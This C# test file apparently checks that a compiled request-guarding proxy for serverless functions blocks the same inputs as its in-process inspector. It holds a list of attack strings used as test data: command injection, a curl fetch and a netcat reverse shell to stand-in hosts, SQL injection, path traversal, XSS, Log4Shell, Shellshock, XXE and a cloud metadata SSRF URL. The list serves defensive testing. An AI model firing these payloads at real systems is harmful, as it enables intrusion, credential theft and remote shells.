using System.Diagnostics;
using System.Net;
using System.Text;
using System.Text.Json;
using Pellicle.Guard.Tests.Support;
using Pellicle.Inspection;

namespace Pellicle.Guard.Tests;

/// <summary>Compiled ahead of time, for another processor too, the guard stops exactly what the inspector of this process would.</summary>
public class JudgementTests
{
    private const int Events = 600;

    private static readonly string[] Attacks =
    [
        "; cat /etc/passwd", "$(curl http://evil.example/x)", " | nc -e /bin/sh 10.0.0.1 4444", "`id`", "' or 'a'='a", "x' union select password from users--", "1 and sleep(5)", "../../../../etc/shadow", "..%2f..%2f",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}", "() { :; }; echo", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>", "{{7*7}}", "http://169.254.169.254/latest/",
    ];

    private static readonly string[] Ordinary =
    [
        "a quiet evening", "O'Brien", "select a seat, or two", "50 % off & more", "füür dí Ünïcode", "日本語のテキスト", "C:\\Users\\me", "tom@example.org", "{\"nested\":[1,2,3]}", "line\nbreak\ttab", "aGVsbG8gd29ybGQ=", "3.14159",
    ];

    [BinaryFact]
    public void The_published_guard_judges_as_the_inspector_does()
    {
        using var platform = new FakePlatform();
        var start = new ProcessStartInfo(BinaryFactAttribute.Path, ["proxy", "--listen", "127.0.0.1:0", "--upstream", platform.Address.ToString()]) { RedirectStandardOutput = true, RedirectStandardError = true };
        start.Environment["PELLICLE_MODE"] = "protect";
        using var guard = Process.Start(start)!;
        guard.BeginErrorReadLine();
        try
        {
            using var runtime = new FakeRuntime(IPEndPoint.Parse(guard.StandardOutput.ReadLine()!["listening on ".Length..]));
            var random = new Random(41);
            var allowed = new List<byte[]>();
            for (var i = 0; i < Events; i++)
            {
                var body = JsonSerializer.SerializeToUtf8Bytes(new { name = Text(random), list = new[] { Text(random), Text(random) } });
                var answer = platform.Event($"event-{i}", body);
                if (Inspector.Inspect(body).Decision == InspectionDecision.Allow)
                    allowed.Add(answer);
            }
            // Both answers are there often enough to be told apart.
            allowed.Count.ShouldBeInRange(Events / 10, Events * 9 / 10);
            foreach (var answer in allowed)
            {
                var got = runtime.Next();
                Encoding.UTF8.GetString(got).ShouldBe(Encoding.UTF8.GetString(answer));
                runtime.Respond(Wire.Header(Encoding.ASCII.GetString(answer), "lambda-runtime-aws-request-id")!, "1").ShouldBe(FakePlatform.Accepted);
            }
        }
        finally
        {
            guard.Kill();
            guard.WaitForExit();
        }
    }

    // Of any length, so that what is told stands at every place of a vector and across two.
    private static string Text(Random random)
    {
        var text = new string('x', random.Next(80));
        for (var parts = random.Next(3); parts > 0; parts--)
        {
            var from = random.Next(6) == 0 ? Attacks : Ordinary;
            text += from[random.Next(from.Length)] + new string(' ', random.Next(70));
        }
        return text;
    }
}
